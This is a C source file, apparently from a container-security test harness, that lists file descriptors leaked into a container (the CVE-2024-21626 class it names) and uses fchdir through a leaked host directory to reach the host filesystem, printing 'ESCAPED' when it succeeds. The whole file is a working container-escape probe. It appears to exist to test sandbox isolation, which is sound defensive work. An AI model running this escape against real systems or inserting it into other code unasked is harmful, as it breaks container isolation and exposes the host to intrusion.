/* Look for descriptors capsule's caller leaked into the container (CVE-2024-21626 class) and
 * use a directory among them to reach the host's filesystem.
 * usage: fd_scan   (prints to stdout: one "fd N -> TARGET" line per fd above 2, then "cwd PATH") */
#include <limits.h>

#include "attack.h"

int main(void)
{
        DIR *d = opendir("/proc/self/fd");
        if (!d) {
                perror("/proc/self/fd");
                return 2;
        }
        struct dirent *de;
        while ((de = readdir(d))) {
                int fd = atoi(de->d_name);
                if (de->d_name[0] == '.' || fd <= 2 || fd == dirfd(d))
                        continue;
                char path[64], target[PATH_MAX] = "";
                snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                ssize_t n = readlink(path, target, sizeof(target) - 1);
                target[n > 0 ? n : 0] = '\0';
                report("fd %d -> %s", fd, target);
                /* A directory fd from the host leads out of the root. */
                if (fchdir(fd) == 0 && access("etc/hostname", F_OK) == 0)
                        report("ESCAPED through fd %d", fd);
        }
        closedir(d);
        char cwd[PATH_MAX];
        report("cwd %s", getcwd(cwd, sizeof(cwd)) ? cwd : strerror(errno));
        return 0;
}
